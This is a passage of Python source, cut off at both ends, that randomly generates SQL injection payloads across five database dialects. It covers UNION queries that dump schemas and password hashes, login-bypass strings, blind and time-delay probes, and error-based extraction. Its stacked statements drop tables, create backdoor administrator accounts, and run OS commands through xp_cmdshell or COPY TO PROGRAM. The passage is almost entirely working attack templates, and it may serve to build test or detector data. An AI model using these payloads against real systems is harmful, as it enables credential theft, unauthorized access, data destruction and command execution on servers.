        (["group_concat(table_name,0x3a,column_name)"], "FROM information_schema.columns WHERE table_schema=database()"),
        (["json_arrayagg(concat({U},0x3a,{P}))"], "FROM {t}"),
        (["file_priv"], "FROM mysql.user WHERE user={root}"),
        (["table_name"], "FROM information_schema.tables LIMIT {k},1"),
    ],
    "pg": [
        (["string_agg(table_name,',')"], "FROM information_schema.tables WHERE table_schema='public'"),
        (["string_agg(column_name,',')"], "FROM information_schema.columns WHERE table_name={T}"),
        (["tablename"], "FROM pg_tables WHERE schemaname='public'"),
        (["usename||':'||passwd"], "FROM pg_shadow"),
        (["datname"], "FROM pg_database"),
        (["{U}||':'||{P}"], "FROM {t}"),
        (["array_to_string(array_agg({U}),',')"], "FROM {t}"),
        (["relname"], "FROM pg_class WHERE relkind='r'"),
        (["rolname", "rolsuper::text"], "FROM pg_roles"),
        (["{U}", "{P}"], "FROM {t}"),
        (["table_name"], "FROM information_schema.tables LIMIT 1 OFFSET {k}"),
        (["string_agg(usename,',')"], "FROM pg_user"),
    ],
    "mssql": [
        (["name"], "FROM sysobjects WHERE xtype='U'"),
        (["name"], "FROM master..sysdatabases"),
        (["table_name"], "FROM information_schema.tables"),
        (["name"], "FROM sys.tables"),
        (["STRING_AGG(name,',')"], "FROM sys.databases"),
        (["{U}+':'+{P}"], "FROM {t}"),
        (["name"], "FROM syscolumns WHERE id=(SELECT id FROM sysobjects WHERE name={T})"),
        (["name", "password_hash"], "FROM sys.sql_logins"),
        (["(SELECT {U}+':'+{P}+',' FROM {t} FOR XML PATH(''))"], ""),
        (["loginname"], "FROM master..syslogins"),
        (["column_name"], "FROM information_schema.columns WHERE table_name={T}"),
        (["{U}", "{P}"], "FROM {t}"),
        (["name"], "FROM master.sys.server_principals WHERE IS_SRVROLEMEMBER('sysadmin',name)=1"),
    ],
    "sqlite": [
        (["sql"], "FROM sqlite_master"),
        (["group_concat(tbl_name)"], "FROM sqlite_master WHERE type='table'"),
        (["name"], "FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite_%'"),
        (["group_concat(name)"], "FROM pragma_table_info({T})"),
        (["{U}||':'||{P}"], "FROM {t}"),
        (["sql"], "FROM sqlite_schema WHERE name={T}"),
        (["{U}", "{P}"], "FROM {t}"),
        (["group_concat({U}||':'||{P},char(10))"], "FROM {t}"),
    ],
    "oracle": [
        (["table_name"], "FROM all_tables"),
        (["owner||'.'||table_name"], "FROM all_tables"),
        (["column_name"], "FROM all_tab_columns WHERE table_name={TU}"),
        (["username"], "FROM all_users"),
        (["banner"], "FROM v$version"),
        (["LISTAGG(table_name,',') WITHIN GROUP (ORDER BY table_name)"], "FROM user_tables"),
        (["{U}||':'||{P}"], "FROM {t}"),
        (["name||':'||password"], "FROM sys.user$"),
        (["{U}", "{P}"], "FROM {t}"),
        (["granted_role"], "FROM user_role_privs"),
    ],
}


@family("sqli", "union_catalog")
def sqli_union_catalog(d):
    dialect = pick_dialect(d)
    ctx = breakout(d, dialect)
    if ctx.kind == "num" and d.chance(0.6):
        ctx.prefix = d.pick(["-1", "0", "-9999", "1 AND 0"])
    cols, tail = d.pick(CATALOG[dialect])
    t = d.pick(TABLES)
    subs = {"{U}": d.pick(USER_COLS), "{P}": d.pick(PASS_COLS), "{t}": t,
            "{T}": literal(d, t, dialect, 0.25), "{TU}": literal(d, t.upper(), dialect, 0.2),
            "{root}": literal(d, "root", dialect, 0.2), "{k}": str(d.randint(0, 12))}

    def fill(s):
        for key, val in subs.items():
            s = s.replace(key, val)
        return s

    cols = [fill(c) for c in cols]
    tail = fill(tail)
    n = d.wpick([(len(cols), 3), (len(cols) + 1, 3), (len(cols) + 2, 3), (len(cols) + 3, 2),
                 (len(cols) + 5, 1)])
    pad = d.pick(["NULL", "num"])
    full = [("NULL" if pad == "NULL" else str(i + 1)) for i in range(n)]
    at = d.randint(0, n - len(cols))
    full[at:at + len(cols)] = cols
    if d.chance(0.25) and tail and len(cols) == 1:
        # As a scalar subquery in one column instead of the outer FROM.
        d.note("scalar_subquery")
        inner = f"SELECT {cols[0]} {tail}"
        if dialect == "mssql" and "TOP" not in inner:
            inner = inner.replace("SELECT ", "SELECT TOP 1 ", 1)
        elif dialect in ("mysql", "pg", "sqlite") and "LIMIT" not in inner and "agg" not in inner.lower() and "group_concat" not in inner:
            inner += limit1(d, dialect)
        full[at] = f"({inner})"
        body = f"{union_kw(d, dialect)} " + ",".join(full)
        if dialect == "oracle":
            body += " FROM dual"
    else:
        body = f"{union_kw(d, dialect)} " + ",".join(full) + (" " + tail if tail else "")
    if ctx.kind != "num" and d.chance(0.15):
        body = f"AND {d.pick(['1=0', '0', 'false', '1=2'])} " + body
    end = terminator(d, dialect) if (ctx.kind != "num" or d.chance(0.4)) else ""
    return sqli(d, dialect, ctx, body, end)


def tautology(d, dialect, q="'"):
    """A condition that is always true, in one of many spellings."""
    n = d.randint(0, 999)
    m = d.randint(1, 99)
    w = d.pick(WORDS[:-3])
    ch = chr(d.randint(97, 122))
    ascii_fn = "unicode" if dialect == "sqlite" else "ascii"
    len_fn = "len" if dialect == "mssql" else "length"
    chr_fn = "CHR" if dialect in ("pg", "oracle") else "CHAR"
    forms = [(f"{n}={n}", 8), ("1=1", 10), (f"{n + m}>{n}", 3), (f"{n}<{n + m}", 2),
             (f"{q}{w}{q}={q}{w}{q}", 6), (f"{n}<>{n + m}", 1), (f"{n}!={n + m}", 1),
             (f"NOT {n}={n + m}", 1), (f"{n} LIKE {n}", 1), (f"{q}{w}{q} LIKE {q}{w[0]}%{q}", 1),
             (f"{n} IN ({n},{n + m})", 1), (f"{n} BETWEEN {max(0, n - m)} AND {n + m}", 1),
             (f"{n + m}-{m}={n}", 1), (f"{ascii_fn}({q}{ch}{q})={ord(ch)}", 1),
             (f"{len_fn}({q}{w}{q})={len(w)}", 1), (f"{chr_fn}({ord(ch)})={q}{ch}{q}", 1),
             (f"lower({q}{ch.upper()}{q})={q}{ch}{q}", 0.5), ("NULL IS NULL", 0.5),
             (f"{n} IS NOT NULL", 0.5), (f"(SELECT {n})={n}", 1),
             (f"coalesce(NULL,{n})={n}", 0.4), (f"abs(-{m})={m}", 0.4), (f"{m}*{m}={m * m}", 0.5)]
    if dialect in ("mysql", "pg", "sqlite"):
        forms += [("true", 2), ("NOT false", 0.5)]
    if dialect == "mysql":
        forms += [("1", 2), (f"{n}", 1), (f"{q}{w}{q} REGEXP {q}^{w[0]}{q}", 0.5),
                  (f"{n} RLIKE {n}", 0.3), (f"{n} DIV 1={n}", 0.3), (f"0x{sql_hex(w)}={q}{w}{q}", 0.7)]
    if dialect == "pg":
        forms += [(f"{q}{w}{q}~{q}{w[0]}{q}", 0.5), (f"{n}::int={n}", 0.5)]
    if dialect == "sqlite":
        forms += [(f"{q}{w}{q} GLOB {q}{w[0]}*{q}", 0.5), ("1", 1)]
    return d.wpick(forms)


@family("sqli", "boolean_tautology")
def sqli_boolean_tautology(d):
    dialect = pick_dialect(d)
    ctx = breakout(d, dialect)
    q = ctx.quote or d.pick(["'", "'", '"'])
    if dialect != "mysql" and q == '"':
        q = "'"
    shape = d.wpick([("cond", 6), ("classic", 3), ("limit", 1), ("compact", 1)])
    if shape == "classic" and ctx.quote:
        d.note("balanced_quotes")
        a = d.pick(["1", "a", "x", "", "abc", "2", "z"])
        o = or_word(d, dialect)
        qq = ctx.quote
        opens = "(" * ctx.parens
        forms = [f"{o} {opens}{qq}{a}{qq}={qq}{a}", f"{o} {qq}{a}{qq}={qq}{a}",
                 f"{o} {qq}{qq}={qq}", f"{o} {opens}{qq}{a}{qq} LIKE {qq}{a}",
                 f"{o} {d.randint(1, 9)}={d.randint(1, 9)} {o} {qq}{a}{qq}={qq}"]
        if dialect == "mysql" and not ctx.parens:
            forms += [f"={qq}", f"-{qq}", f"{o} {qq}{a}", f"||{qq}1", f"{o} 1 {o} {qq}"]
        body = d.pick(forms)
        return sqli(d, dialect, ctx, body)
    if shape == "limit" and ctx.kind != "num":
        cond = tautology(d, dialect, q)
        tail = d.pick([" LIMIT 1", " LIMIT 1 OFFSET 1", " ORDER BY 1", " LIMIT 0,1"]) \
            if dialect in ("mysql", "sqlite") else (" ORDER BY 1" if dialect != "pg" else " LIMIT 1")
        return sqli(d, dialect, ctx, f"{or_word(d, dialect)} {cond}{tail}", terminator(d, dialect))
    if shape == "compact" and dialect in ("mysql", "sqlite", "pg"):
        d.note("parens_for_spaces")
        n = d.randint(0, 99)
        o = or_word(d, dialect)
        cond = d.pick([f"({n})=({n})", f"({n}={n})", "(1)", f"({q}a{q})=({q}a{q})", "(true)",
                       f"(1)like(1)", f"({n})in({n})"])
        end = terminator(d, dialect) if ctx.kind != "num" else ""
        return sqli(d, dialect, ctx, f"{o}{cond}", end, obfuscate=False)
    cond = tautology(d, dialect, q)
    return cond_payload(d, dialect, ctx, or_word(d, dialect), cond)


@family("sqli", "auth_bypass")
def sqli_auth_bypass(d):
    dialect = pick_dialect(d, [("mysql", 50), ("mssql", 20), ("pg", 15), ("sqlite", 12),
                                ("oracle", 3)])
    d.note("login_field")
    who = d.pick(USERNAMES)
    q = d.wpick([("'", 8), ('"', 2)]) if dialect == "mysql" else "'"
    ucol, pcol = d.pick(USER_COLS), d.pick(PASS_COLS)
    close = d.wpick([("", 8), (")", 2), ("))", 0.5)])
    opens = "(" * len(close)
    term = terminator(d, dialect)
    pw = d.pick(["x", "1234", "anything", "password", "a", "letmein", "pass", "qwerty"])
    h = d.pick([hashlib.md5, hashlib.sha1, hashlib.sha256])(pw.encode()).hexdigest()
    n = d.randint(0, 9)
    mysql = dialect == "mysql"
    limits = dialect in ("mysql", "sqlite", "pg")
    # (weight, text before the payload's first token, payload, terminator)
    forms = [
        (8, who + q + close, "", term),
        (4, who + q + close, f"OR {opens}{q}1{q}={q}1", ""),
        (4, who + q + close, "OR 1=1", term),
        (1, who + q + close, "AND 1=1", term),
        (3, q + close, f"OR {q}{q}={q}", ""),
        (4, q + close, "OR 1=1", term),
        (2, q + close, f"OR {ucol}={q}{who}{q}", term),
        (1, q + close, f"OR {ucol} LIKE {q}%{who[:3]}%{q}", term),
        (1 if limits else 0, q + close, "OR 1=1 LIMIT 1", term),
        (2, "x" + q + close, f"OR {opens}{q}x{q}={q}x", ""),
        (1, who + q + close, f"OR {q}a{q}={q}a{q}", term),
        (1, q + close, f"OR {n}={n}", term),
        (1, q + close, f"OR {ucol} IS NOT NULL", term),
        (1, q, f"UNION SELECT 1,{q}{who}{q},{q}{h}{q}", term),
        (1, q, f"UNION SELECT {q}{who}{q},{q}{h}{q}", term),
        (0.5, q + close, f"OR {pcol}={pcol}", term),
        (0.5, who + q, f"AND {pcol}>{q}{q}", term),
        (0.4 if mysql else 0, q, f"={q}{q}or{q}", ""),
        (1, q, f"or{q}{q}={q}", ""),
        (1, who + q, f"or 1=1 or {q}{q}={q}", ""),
        (0.3 if mysql else 0, q, f"-{q}", ""),
        (1 if mysql else 0, who + q + close, "", "#"),
        (1, who + q + close, "", "/*"),
        (0.5 if not mysql else 0, who + q, f"||{q}", ""),
        (0.5, q, f"OR {q}x{q}={q}x{q} AND {ucol}={q}{who}{q}", term),
        (0.5 if limits else 0, who + q + close, "OR true", term),
        (0.5, who + q + close, f"OR {opens}{q}{who}{q}={q}{who}", ""),
    ]
    prefix, body, end = d.wpick([((p, b, e), w) for w, p, b, e in forms])
    ctx = Ctx("sq" if q == "'" else "dq", prefix, q, len(close))
    return sqli(d, dialect, ctx, body, end, obfuscate=bool(body))


def blind_probe(d, dialect, q="'"):
    sub = scalar(d, dialect, 0.55)
    i = d.randint(1, 32)
    n = d.randint(32, 126)
    c = chr(d.randint(97, 122))
    k = d.randint(1, 40)
    t = d.pick(TABLES)
    ucol = d.pick(USER_COLS)
    who = d.pick(USERNAMES)
    forms = [(f"1=1", 2), (f"1=2", 2), (f"{k}={k}", 1), (f"{k}={k + 1}", 1),
             (f"(SELECT count(*) FROM {t})>{k}", 2),
             (f"EXISTS(SELECT * FROM {t})", 1),
             (f"EXISTS(SELECT 1 FROM {t} WHERE {ucol}={q}{who}{q})", 1),
             (f"(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)=1", 1)]
    if dialect == "mysql":
        forms += [(f"ascii(substring({sub},{i},1))>{n}", 5), (f"substr({sub},{i},1)={q}{c}{q}", 3),
                  (f"mid({sub},{i},1)={literal(d, c, dialect, 0.4)}", 2),
                  (f"ord(mid({sub},{i},1))={n}", 2), (f"length({sub})>{k}", 2),
                  (f"{sub} LIKE {q}{c}%{q}", 1), (f"if(ascii(substr({sub},{i},1))>{n},1,0)", 1),
                  (f"{sub} REGEXP {q}^[a-{c}]{q}", 1), (f"bit_length({sub})>{k * 8}", 0.5),
                  (f"left({sub},{min(i, 4)})={q}{who[:min(i, 4)]}{q}", 1),
                  (f"(SELECT 1 FROM dual WHERE database() LIKE {q}{c}%{q})=1", 0.5)]
    elif dialect == "pg":
        forms += [(f"ascii(substr({sub},{i},1))>{n}", 5), (f"substr({sub},{i},1)={q}{c}{q}", 3),
                  (f"length({sub})={k}", 2), (f"{sub} ~ {q}^[a-{c}]{q}", 1),
                  (f"(SELECT CASE WHEN (ascii(substr({sub},{i},1))>{n}) THEN true ELSE false END)", 1),
                  (f"get_byte({sub}::bytea,{i - 1})>{n}", 0.5)]
    elif dialect == "mssql":
        forms += [(f"ascii(substring({sub},{i},1))>{n}", 5), (f"substring({sub},{i},1)={q}{c}{q}", 3),
                  (f"len({sub})>{k}", 2), (f"unicode(substring({sub},{i},1))>{n}", 1),
                  ("IS_SRVROLEMEMBER('sysadmin')=1", 1), (f"{sub} LIKE {q}{c}%{q}", 1)]
    elif dialect == "sqlite":
        forms += [(f"unicode(substr({sub},{i},1))>{n}", 4), (f"substr({sub},{i},1)={q}{c}{q}", 3),
                  (f"length({sub})>{k}", 2), (f"{sub} GLOB {q}{c}*{q}", 1),
                  (f"hex(substr({sub},{i},1))={q}{ord(c):02X}{q}", 1),
                  (f"instr({sub},{q}{c}{q})>0", 0.5)]
    else:
        forms += [(f"ascii(substr({sub},{i},1))>{n}", 5), (f"length({sub})>{k}", 2),
                  (f"substr({sub},{i},1)={q}{c.upper()}{q}", 2),
                  ("(SELECT count(*) FROM all_tables)>" + str(k * 10), 1),
                  (f"instr({sub},{q}{c.upper()}{q})>0", 0.5)]
    return d.wpick(forms)


@family("sqli", "boolean_blind")
def sqli_boolean_blind(d):
    dialect = pick_dialect(d)
    ctx = breakout(d, dialect)
    cond = blind_probe(d, dialect)
    if d.chance(0.15):
        cond = f"({cond})"
    op = and_word(d, dialect) if d.chance(0.85) else or_word(d, dialect)
    if op.upper() in ("OR", "||") and ctx.kind == "num":
        ctx.prefix = d.pick(["-1", "0", "999999"])
    return cond_payload(d, dialect, ctx, op, cond)


@family("sqli", "column_probe")
def sqli_column_probe(d):
    shape = d.wpick([("order", 6), ("group", 2), ("having", 1.5), ("into", 1), ("sort", 2),
                     ("analyse", 0.3)])
    if shape == "having":
        dialect = pick_dialect(d, [("mssql", 1)])  # its errors name the next column
    elif shape in ("into", "analyse"):
        dialect = pick_dialect(d, [("mysql", 1)])
    else:
        dialect = pick_dialect(d)
    n = d.wpick([(d.randint(1, 10), 5), (d.randint(11, 30), 2), (d.randint(31, 100), 0.5)])
    if shape != "sort":
        ctx = breakout(d, dialect)
        end = terminator(d, dialect) if (ctx.kind != "num" or d.chance(0.5)) else ""
    if shape == "order":
        what = d.wpick([(str(n), 6), (",".join(str(i) for i in range(1, n + 1)) if n <= 12 else str(n), 2),
                        (f"{n} DESC", 1), (f"{n} ASC", 0.5), ("(SELECT 1)", 0.5),
                        (f"{n},{d.randint(1, n)}", 0.5)])
        body = f"ORDER BY {what}"
    elif shape == "group":
        cols = ",".join(str(i) for i in range(1, min(n, 12) + 1))
        body = d.pick([f"GROUP BY {cols}", f"GROUP BY {cols} HAVING 1=1", f"GROUP BY {n}",
                       f"GROUP BY {cols} WITH ROLLUP" if dialect == "mysql" else f"GROUP BY {n}"])
    elif shape == "having":
        t, c = d.pick(TABLES), d.pick(USER_COLS + PASS_COLS + OTHER_COLS)
        body = d.pick(["HAVING 1=1", f"GROUP BY {t}.{c} HAVING 1=1",
                       f"GROUP BY {t}.{c},{t}.{d.pick(OTHER_COLS)} HAVING 1=1",
                       f"HAVING {d.randint(1, 9)}>0"])
    elif shape == "into":
        k = d.randint(1, 12)
        body = d.pick([f"LIMIT 1 INTO " + ",".join(["@"] * k),
                       f"LIMIT 0,1 INTO " + ",".join(f"@v{i}" for i in range(k)),
                       f"INTO @,@" + ",@" * (k - 1)])
    elif shape == "analyse":
        body = d.pick(["PROCEDURE ANALYSE()", "PROCEDURE ANALYSE(1,1)",
                       f"PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,{scalar(d, 'mysql', 0)})),1)"])
    else:
        # A sort parameter pasted after ORDER BY: no breakout, an expression that branches.
        d.note("ctx_sort_param")
        a, b = d.pick(["id", "name", "price", "created_at", "title"]), d.pick(["1", "2", "title", "email", "(SELECT 1)"])
        cond = blind_probe(d, dialect)
        if dialect == "mysql" and d.chance(0.4):
            body = f"IF(({cond}),{a},{b})"
        else:
            body = f"(CASE WHEN ({cond}) THEN {a} ELSE {b} END)"
        if d.chance(0.4):
            body = d.pick(["id,", "name ASC,", "price DESC,", "1,"]) + body
        ctx = Ctx("sort", d.pick(["", "", "id", "name"]), "", 0)
        if ctx.prefix:
            ctx.prefix += d.pick([",", " ASC,", " DESC,"])
        return sqli(d, dialect, ctx, body, "")
    return sqli(d, dialect, ctx, body, end)


def error_expr(d, dialect):
    sub = scalar(d, dialect, 0.45)
    r = d.pick(["1", "0", "rand()", "null", str(d.randint(2, 9999)), "0x3a"])
    if dialect == "mysql":
        forms = [(f"extractvalue({r},concat(0x7e,{sub},0x7e))", 6),
                 (f"extractvalue({r},concat(0x5c,{sub}))", 2),
                 (f"updatexml({r},concat(0x7e,{sub},0x7e),{r})", 6),
                 (f"updatexml(null,concat(0x3a,{sub}),null)", 1),
                 (f"exp(~(SELECT * FROM (SELECT {sub})x))", 3),
                 (f"(SELECT 1 FROM (SELECT count(*),concat({sub},floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)a)", 4),
                 (f"(SELECT 2*(IF((SELECT * FROM (SELECT concat(0x7e,{sub},0x7e))s),8446744073709551610,8446744073709551610)))", 1),
                 (f"geometrycollection((SELECT * FROM (SELECT * FROM (SELECT {sub})a)b))", 1),
                 (f"polygon((SELECT * FROM (SELECT * FROM (SELECT {sub})a)b))", 1),
                 (f"JSON_KEYS((SELECT CONVERT((SELECT concat(0x7e,{sub})) USING utf8)))", 1),
                 (f"(SELECT * FROM (SELECT NAME_CONST({d.pick(INFO['mysql'][:3])},1),NAME_CONST({d.pick(INFO['mysql'][:3])},1))a)", 1),
                 (f"!(SELECT * FROM (SELECT {sub})x)-~0", 1),
                 (f"gtid_subset(concat(0x7e,{sub},0x7e),1)", 1),
                 (f"ST_LatFromGeoHash({sub})", 0.5)]
    elif dialect == "pg":
        forms = [(f"CAST({sub} AS int)", 5), (f"CAST({sub} AS numeric)", 2), (f"{sub}::int", 4),
                 (f"cast(chr(126)||{sub}||chr(126) AS numeric)", 2), (f"({sub})::integer", 2),
                 (f"1=(SELECT {sub})::int", 1), (f"to_number({sub},'999')", 0.5),
                 (f"CAST(({sub})::text AS bigint)", 1)]
    elif dialect == "mssql":
        forms = [(f"CONVERT(int,{sub})", 5), (f"CAST({sub} AS int)", 4), (f"{sub}>0", 2),
                 ("1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))", 1),
                 (f"CONVERT(int,CHAR(58)+{sub}+CHAR(58))", 1), (f"1 IN (SELECT CAST({sub} AS int))", 1),
                 ("(SELECT TOP 1 CAST(name AS int) FROM sys.databases)", 0.5),
                 (f"CONVERT(int,(SELECT {d.pick(INFO['mssql'][:5])}))", 1)]
    elif dialect == "oracle":
        forms = [(f"CTXSYS.DRITHSX.SN(1,{sub})", 3), (f"UTL_INADDR.GET_HOST_NAME({sub})", 3),
                 (f"XMLType('<:'||{sub}||'>')", 2), (f"dbms_xdb_version.checkin({sub})", 1),
                 (f"DBMS_UTILITY.SQLID_TO_SQLHASH({sub})", 1), (f"TO_NUMBER({sub})", 1)]
    else:
        forms = [("abs(-9223372036854775808)", 2), ("load_extension('x')", 1),
                 (f"json('x'||{sub})", 1), (f"CAST({sub} AS INTEGER)=1/0", 0.5)]
    return d.wpick(forms)


@family("sqli", "error_based")
def sqli_error_based(d):
    dialect = pick_dialect(d, [("mysql", 40), ("mssql", 22), ("pg", 22), ("oracle", 12),
                                ("sqlite", 4)])
    ctx = breakout(d, dialect)
    expr = error_expr(d, dialect)
    shape = d.wpick([("and", 6), ("or", 2), ("eq", 2), ("concat", 1.5), ("select", 0.5)])
    if shape == "concat" and ctx.kind in ("sq", "dq") and dialect in ("pg", "oracle", "mssql", "sqlite"):
        d.note("string_concat_context")
        plus = "+" if dialect == "mssql" else "||"
        q = ctx.quote
        return sqli(d, dialect, ctx, f"{plus}{expr}{plus}{q}", "")
    if shape == "eq":
        return cond_payload(d, dialect, ctx, and_word(d, dialect), f"1=({expr})" if not expr.startswith("1") else expr)
    if shape == "select" and ctx.kind != "num":
        return sqli(d, dialect, ctx, f"{union_kw(d, dialect)} {expr}" + (" FROM dual" if dialect == "oracle" else ""),
                    terminator(d, dialect))
    op = and_word(d, dialect) if shape != "or" else or_word(d, dialect)
    return cond_payload(d, dialect, ctx, op, expr)


def delay_expr(d, dialect):
    t = d.wpick([(5, 6), (10, 3), (d.randint(1, 30), 3), (2, 1), (3, 1), (15, 1), (20, 1)])
    big = d.pick(["5000000", "10000000", "50000000", "100000000", "3000000"])
    cond = d.pick(["1=1", f"{d.randint(1, 9)}={d.randint(1, 9)}", "(SELECT 1)=1"]) if d.chance(0.5) \
        else blind_probe(d, dialect)
    if dialect == "mysql":
        alias = d.pick(["a", "x", "t", "YjoK", "q"])
        return d.wpick([(f"SLEEP({t})", 8), (f"(SELECT SLEEP({t}))", 3),
                        (f"(SELECT * FROM (SELECT(SLEEP({t})))" + alias + ")", 4),
                        (f"IF({cond},SLEEP({t}),0)", 4), (f"BENCHMARK({big},MD5({d.randint(1, 9)}))", 3),
                        (f"BENCHMARK({big},SHA1('{d.pick(WORDS)}'))", 1),
                        (f"(SELECT {d.randint(1, 9999)} FROM (SELECT(SLEEP({t})))" + alias + ")", 2),
                        (f"CASE WHEN ({cond}) THEN SLEEP({t}) ELSE 0 END", 1),
                        (f"ELT({cond},SLEEP({t}))", 1), (f"SLEEP({t})=0", 0.5),
                        (f"IF(now()=sysdate(),SLEEP({t}),0)", 1)])
    if dialect == "pg":
        return d.wpick([(f"pg_sleep({t})", 6), (f"(SELECT 1 FROM pg_sleep({t}))", 3),
                        (f"CASE WHEN ({cond}) THEN pg_sleep({t}) ELSE pg_sleep(0) END", 2),
                        (f"1=(SELECT 1 FROM pg_sleep({t}))", 2),
                        (f"(SELECT count(*) FROM generate_series(1,{big}))>0", 1),
                        (f"pg_sleep_for('{t} seconds')", 0.5),
                        (f"(SELECT CASE WHEN ({cond}) THEN (SELECT 1 FROM pg_sleep({t})) ELSE 1 END)=1", 1)])
    if dialect == "mssql":
        return d.wpick([(f"WAITFOR DELAY '0:0:{t}'", 6), (f"WAITFOR DELAY '00:00:{t:02d}'", 3),
                        (f"IF ({cond}) WAITFOR DELAY '0:0:{t}'", 3),
                        (f"IF (SELECT IS_SRVROLEMEMBER('sysadmin'))=1 WAITFOR DELAY '0:0:{t}'", 1),
                        (f"DECLARE @x CHAR(9);SET @x=0x{sql_hex(f'0:0:{t}')};WAITFOR DELAY @x", 1),
                        (f"WAITFOR TIME '{d.randint(0, 23):02d}:{d.randint(0, 59):02d}:00'", 0.3)])
    if dialect == "sqlite":
        return d.wpick([(f"randomblob({big})", 4),
                        (f"1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({big}/2))))", 4),
                        (f"CASE WHEN ({cond}) THEN randomblob({big}) ELSE 1 END", 2),
                        (f"length(randomblob({big}))>0", 1),
                        (f"(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT {big}) SELECT count(*) FROM c)>0", 1)])
    return d.wpick([(f"DBMS_PIPE.RECEIVE_MESSAGE('{d.pick(WORDS)}',{t})", 4),
                    (f"DBMS_PIPE.RECEIVE_MESSAGE(CHR({d.randint(65, 90)})||CHR({d.randint(65, 90)}),{t})", 2),
                    (f"1=DBMS_PIPE.RECEIVE_MESSAGE('a',{t})", 2),
                    (f"CASE WHEN ({cond}) THEN DBMS_PIPE.RECEIVE_MESSAGE('a',{t}) ELSE NULL END IS NULL", 1),
                    ("(SELECT count(*) FROM all_objects a,all_objects b)>0", 1)])


@family("sqli", "time_based")
def sqli_time_based(d):
    dialect = pick_dialect(d)
    ctx = breakout(d, dialect)
    expr = delay_expr(d, dialect)
    if dialect == "mysql" and d.chance(0.08):
        d.note("xor_polyglot")
        t = d.pick(["5", "10", "3", "15"])
        q = d.pick(["'", '"'])
        core = f"XOR(if(now()=sysdate(),sleep({t}),0))XOR"
        return sqli(d, dialect, Ctx("sq", d.pick(["", "0", "1", "x"]) + q, q, 0),
                    core + q + d.pick(["", "Z", "x"]), "", obfuscate=False)
    if dialect == "mssql" and expr.upper().startswith(("WAITFOR", "IF", "DECLARE")):
        sep = d.pick([";", ";", " "]) if not expr.startswith("DECLARE") else ";"
        body = sep + expr
        end = terminator(d, dialect) if ctx.kind != "num" else d.pick(["", "--"])
        return sqli(d, dialect, ctx, body.lstrip(" "), end)
    if dialect == "pg" and d.chance(0.25):
        d.note("stacked")
        end = terminator(d, dialect) if ctx.kind != "num" else d.pick(["", "--"])
        return sqli(d, dialect, ctx, f";SELECT {expr}", end)
    if dialect in ("pg", "oracle", "sqlite") and ctx.kind in ("sq", "dq") and d.chance(0.15):
        d.note("string_concat_context")
        return sqli(d, dialect, ctx, f"||{expr}||{ctx.quote}", "")
    if dialect == "mysql" and d.chance(0.07):
        return cond_payload(d, dialect, ctx, "RLIKE", expr)
    op = and_word(d, dialect) if d.chance(0.7) else or_word(d, dialect)
    return cond_payload(d, dialect, ctx, op, expr)


def stacked_statement(d, dialect):
    t = d.pick(TABLES)
    ucol, pcol = d.pick(USER_COLS), d.pick(PASS_COLS)
    who = d.pick(USERNAMES)
    new_user = d.pick(["hacker", "eve", "backdoor", "svc_update", "x", "mallory", "pwn3d"])
    pw = d.pick(["P@ssw0rd", "letmein", "123456", "x", "Passw0rd!", "hunter2"])
    cmd = d.pick(SHELL_CMDS)
    n = d.randint(1, 99999)
    common = [(f"DROP TABLE {t}", 5), (f"DELETE FROM {t}", 2), (f"DELETE FROM {t} WHERE 1=1", 1),
              (f"UPDATE {t} SET {pcol}='{pw}' WHERE {ucol}='{who}'", 3),
              (f"UPDATE {t} SET {d.pick(['role', 'is_admin', 'level'])}={d.pick(['1', chr(39) + 'admin' + chr(39)])} WHERE {ucol}='{new_user}'", 1.5),
              (f"INSERT INTO {t} ({ucol},{pcol}) VALUES ('{new_user}','{pw}')", 3),
              (f"INSERT INTO {t} VALUES ({n},'{new_user}','{pw}',1)", 1),
              (f"ALTER TABLE {t} ADD {d.pick(['x', 'pwn', 'c'])} VARCHAR(100)", 1),
              (f"CREATE TABLE {d.pick(['x', 'tmp_x', 'pwn'])}(d TEXT)", 0.5)]
    if dialect == "mysql":
        return d.wpick(common + [(f"TRUNCATE TABLE {t}", 1), (f"DROP DATABASE {d.pick(['app', 'shop', 'prod', 'wordpress'])}", 1),
                                 (f"CREATE USER '{new_user}'@'%' IDENTIFIED BY '{pw}'", 1),
                                 (f"GRANT ALL PRIVILEGES ON *.* TO '{new_user}'@'%'", 1),
                                 ("SET GLOBAL general_log='ON'", 0.5), ("SHUTDOWN", 0.5),
                                 (f"SET @a=0x{sql_hex(f'DROP TABLE {t}')};PREPARE s FROM @a;EXECUTE s", 1)])
    if dialect == "mssql":
        return d.wpick(common + [
            (f"EXEC xp_cmdshell '{cmd}'", 5), (f"EXEC master..xp_cmdshell '{cmd}'", 4),
            (f"EXEC master.dbo.xp_cmdshell '{cmd}'", 1),
            (f"EXEC('xp_cmdshell ''{cmd}''')", 1),
            ("EXEC sp_configure 'show advanced options',1;RECONFIGURE", 2),
            ("EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE", 2),
            (f"DECLARE @s VARCHAR(4000);SET @s=0x{sql_hex('EXEC xp_cmdshell ' + chr(39) + cmd + chr(39)).upper()};EXEC(@s)", 2),
            (f"DECLARE @c VARCHAR(255);SELECT @c='{cmd}';EXEC master..xp_cmdshell @c", 1),
            ("SHUTDOWN WITH NOWAIT", 1), (f"EXEC sp_addlogin '{new_user}','{pw}'", 1),
            (f"EXEC sp_addsrvrolemember '{new_user}','sysadmin'", 1),
            (f"CREATE LOGIN {new_user} WITH PASSWORD='{pw}'", 1),
            (f"TRUNCATE TABLE {t}", 1)])
    if dialect == "pg":
        x = d.pick(["cmd_exec", "x", "out", "t1"])
        return d.wpick(common + [
            (f"COPY (SELECT '') TO PROGRAM '{cmd}'", 3),
            (f"CREATE TABLE {x}(o text);COPY {x} FROM PROGRAM '{cmd}'", 2),
            (f"CREATE USER {new_user} WITH SUPERUSER PASSWORD '{pw}'", 1),
            (f"ALTER USER {new_user} WITH SUPERUSER", 1),
            ("CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE 'c' STRICT", 1),
            (f"DROP TABLE {t} CASCADE", 1), ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", 0.5),
            (f"TRUNCATE {t}", 1)])
    if dialect == "sqlite":
        return d.wpick(common + [
